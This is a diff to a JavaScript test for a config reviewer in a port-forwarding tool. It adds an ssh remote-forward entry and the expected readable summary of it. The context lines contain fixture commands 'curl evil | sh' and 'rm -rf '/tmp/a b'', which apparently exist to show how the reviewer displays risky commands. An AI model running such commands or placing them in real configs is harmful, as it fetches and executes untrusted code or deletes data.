@@ -18,6 +18,7 @@ describe('the review of a config', () => {
   - {name: api, technology: kubectl, local_port: 1, remote_port: 80, connection: {resource_name: api, namespace: web, context: prod}}
   - {name: any, technology: kubectl, local_port: 6, remote_port: http, connection: {selector: "app=x,tier=db", kubeconfig: /k/prod}}
   - {name: db, technology: ssh, local_port: 2, remote_port: 5432, connection: {host: bastion, port: 2222, user: me, jump: [gate], remote_host: db}}
+  - {name: hook, technology: ssh, remote: true, local_port: 3000, remote_port: 8080, connection: {host: bastion, user: me, jump: [gate]}}
   - {name: far, technology: tcp, local_port: 3, bind: 0.0.0.0, remote_port: 9, connection: {host: far}}
   - {name: tool, technology: command, local_port: 4, connection: {argv: [sh, -c, "curl evil | sh", "{local_port}"]}}
   - name: checked
@@ -31,6 +32,7 @@ describe('the review of a config', () => {
       'api: localhost:1 → service/api:80 in namespace web of prod',
       'any: localhost:6 → app=x,tier=db:http in the namespace of the current context in /k/prod',
       'db: localhost:2 → ssh gate → me@bastion:2222 → db:5432',
+      'hook: localhost:8080 at ssh gate → me@bastion → localhost:3000 as this machine reaches it',
       'far: 0.0.0.0:3 → far:9',
       "tool: localhost:4 → wherever its program leads | sh -c 'curl evil | sh' '{local_port}'",
       "checked: localhost:5 → far:9 | check: rm -rf '/tmp/a b'",
